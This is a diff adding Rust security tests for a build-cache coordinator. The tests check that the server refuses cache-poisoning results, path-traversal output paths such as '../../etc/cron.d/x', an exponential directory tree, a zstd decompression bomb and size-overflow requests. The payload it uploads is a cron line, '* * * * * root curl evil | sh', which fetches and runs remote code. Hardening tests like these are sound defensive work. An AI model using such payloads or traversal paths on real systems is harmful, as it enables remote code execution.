@@ -1,0 +1,183 @@
+//! What a hostile client can send a coordinator over the wire, sent for
+//! real: results that would poison the action cache, and trees built to
+//! wedge the server. Each must be refused (or answered) without harm.
+
+mod common;
+
+use std::time::Duration;
+
+use bytes::Bytes;
+use casbuild_fs::digest::Digest;
+use casbuild_proto::reapi::capabilities_client::CapabilitiesClient;
+use casbuild_proto::reapi::execution_client::ExecutionClient;
+use casbuild_proto::reapi::{
+    Action, ActionResult, Command, Directory, DirectoryNode, FileNode, GetActionResultRequest, GetCapabilitiesRequest,
+    OutputDirectory, OutputFile, Tree, UpdateActionResultRequest,
+};
+use common::execute::{blob, execute, execute_request, upload, F};
+use common::Coordinator;
+use tonic::Code;
+
+fn runtime() -> tokio::runtime::Runtime {
+    tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap()
+}
+
+async fn update(server: &Coordinator, action: &Digest, result: ActionResult) -> Result<(), tonic::Status> {
+    let request = UpdateActionResultRequest {
+        action_digest: Some(action.to_proto()),
+        action_result: Some(result),
+        digest_function: F.to_proto() as i32,
+        ..Default::default()
+    };
+    server.action_cache().await.update_action_result(request).await.map(drop)
+}
+
+#[test]
+fn results_that_would_poison_the_action_cache_are_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = Coordinator::start(&dir.path().join("storage"), &[]);
+    runtime().block_on(async {
+        let payload = Bytes::from_static(b"* * * * * root curl evil | sh\n");
+        let payload_digest = F.digest_of(&payload);
+        upload(&server, vec![(payload_digest, payload)]).await;
+        let action = F.digest_of(b"a victim's action");
+        let file = |path: &str| OutputFile {
+            path: path.into(),
+            digest: Some(payload_digest.to_proto()),
+            ..Default::default()
+        };
+
+        for path in ["../../etc/cron.d/x", "/root/.bashrc", "a/../../b", "a//b", "./a", ""] {
+            let result = ActionResult { output_files: vec![file(path)], ..Default::default() };
+            let status = update(&server, &action, result).await.unwrap_err();
+            assert_eq!(status.code(), Code::InvalidArgument, "{path:?}: {status:?}");
+        }
+
+        // An output directory whose Tree names an entry `..`.
+        let evil = Directory {
+            files: vec![FileNode { name: "..".into(), digest: Some(payload_digest.to_proto()), ..Default::default() }],
+            ..Default::default()
+        };
+        let tree = Tree { root: Some(evil), children: vec![] };
+        let (tree_digest, tree_bytes) = blob(&tree);
+        upload(&server, vec![(tree_digest, tree_bytes)]).await;
+        let result = ActionResult {
+            output_directories: vec![OutputDirectory {
+                path: "out".into(),
+                tree_digest: Some(tree_digest.to_proto()),
+                ..Default::default()
+            }],
+            ..Default::default()
+        };
+        let status = update(&server, &action, result).await.unwrap_err();
+        assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
+        assert!(status.message().contains("\"..\""), "{}", status.message());
+
+        // A result naming blobs the CAS does not have.
+        let absent = F.digest_of(b"never uploaded");
+        let output = OutputFile { path: "out".into(), digest: Some(absent.to_proto()), ..Default::default() };
+        let result = ActionResult { output_files: vec![output], ..Default::default() };
+        let status = update(&server, &action, result).await.unwrap_err();
+        assert_eq!(status.code(), Code::FailedPrecondition, "{status:?}");
+        assert!(status.message().contains(&absent.hash_hex()), "{}", status.message());
+
+        // Nothing of it was stored; a well-formed, complete result is.
+        let get = || GetActionResultRequest {
+            action_digest: Some(action.to_proto()),
+            digest_function: F.to_proto() as i32,
+            ..Default::default()
+        };
+        let missed = server.action_cache().await.get_action_result(get()).await.unwrap_err();
+        assert_eq!(missed.code(), Code::NotFound);
+        update(&server, &action, ActionResult { output_files: vec![file("bazel-out/x")], ..Default::default() })
+            .await
+            .unwrap();
+        server.action_cache().await.get_action_result(get()).await.unwrap();
+    });
+}
+
+#[test]
+fn a_tree_that_names_each_child_twice_does_not_wedge_the_server() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = Coordinator::start(&dir.path().join("storage"), &[]);
+    runtime().block_on(async {
+        // 60 levels, each naming its child twice: 2^60 paths, 61 Directories.
+        let absent = F.digest_of(b"a file nobody uploaded");
+        let leaf = Directory {
+            files: vec![FileNode { name: "f".into(), digest: Some(absent.to_proto()), ..Default::default() }],
+            ..Default::default()
+        };
+        let (mut root, bytes) = blob(&leaf);
+        let mut blobs = vec![(root, bytes)];
+        for _ in 0..60 {
+            let node = |name: &str| DirectoryNode { name: name.into(), digest: Some(root.to_proto()) };
+            let (digest, bytes) = blob(&Directory { directories: vec![node("a"), node("b")], ..Default::default() });
+            blobs.push((digest, bytes));
+            root = digest;
+        }
+        let command = Command { arguments: vec!["true".into()], ..Default::default() };
+        let (command_digest, command_bytes) = blob(&command);
+        let action = Action {
+            command_digest: Some(command_digest.to_proto()),
+            input_root_digest: Some(root.to_proto()),
+            ..Default::default()
+        };
+        let (action_digest, action_bytes) = blob(&action);
+        blobs.extend([(command_digest, command_bytes), (action_digest, action_bytes)]);
+        upload(&server, blobs).await;
+
+        let mut client = ExecutionClient::new(server.channel().await);
+        let bounded = Duration::from_secs(60);
+        let response = tokio::time::timeout(bounded, execute(&mut client, execute_request(&action_digest, true)))
+            .await
+            .expect("Execute answers");
+        let status = response.status.unwrap();
+        assert_eq!(status.code, Code::FailedPrecondition as i32, "{}", status.message);
+        assert!(status.message.contains(&absent.hash_hex()), "{}", status.message);
+        // The server still serves everyone else.
+        let mut capabilities = CapabilitiesClient::new(server.channel().await);
+        tokio::time::timeout(bounded, capabilities.get_capabilities(GetCapabilitiesRequest::default()))
+            .await
+            .expect("GetCapabilities answers")
+            .unwrap();
+    });
+}
+
+#[test]
+fn batch_limits_hold_for_declared_and_decompressed_sizes() {
+    use casbuild_proto::reapi::{
+        batch_update_blobs_request, compressor, BatchReadBlobsRequest, BatchUpdateBlobsRequest,
+    };
+    let dir = tempfile::tempdir().unwrap();
+    let server = Coordinator::start(&dir.path().join("storage"), &[]);
+    runtime().block_on(async {
+        // 32 KiB of "zstd" declaring a 1 GiB blob: refused before decompression.
+        let huge = casbuild_proto::reapi::Digest { hash: F.digest_of(b"bomb").hash_hex(), size_bytes: 1 << 30 };
+        let bomb = batch_update_blobs_request::Request {
+            digest: Some(huge),
+            data: vec![0u8; 32 << 10],
+            compressor: compressor::Value::Zstd as i32,
+        };
+        let request = BatchUpdateBlobsRequest {
+            requests: vec![bomb],
+            digest_function: F.to_proto() as i32,
+            ..Default::default()
+        };
+        let status = server.cas().await.batch_update_blobs(request).await.unwrap_err();
+        assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
+        assert!(status.message().contains("batch limit"), "{}", status.message());
+
+        // Declared sizes that add up to 2^64 (zero, if the sum wrapped).
+        let sized = |seed: &[u8], size: i64| casbuild_proto::reapi::Digest {
+            hash: F.digest_of(seed).hash_hex(),
+            size_bytes: size,
+        };
+        let request = BatchReadBlobsRequest {
+            digests: vec![sized(b"a", i64::MAX), sized(b"b", i64::MAX), sized(b"c", 2)],
+            digest_function: F.to_proto() as i32,
+            ..Default::default()
+        };
+        let status = server.cas().await.batch_read_blobs(request).await.unwrap_err();
+        assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
+    });
+}
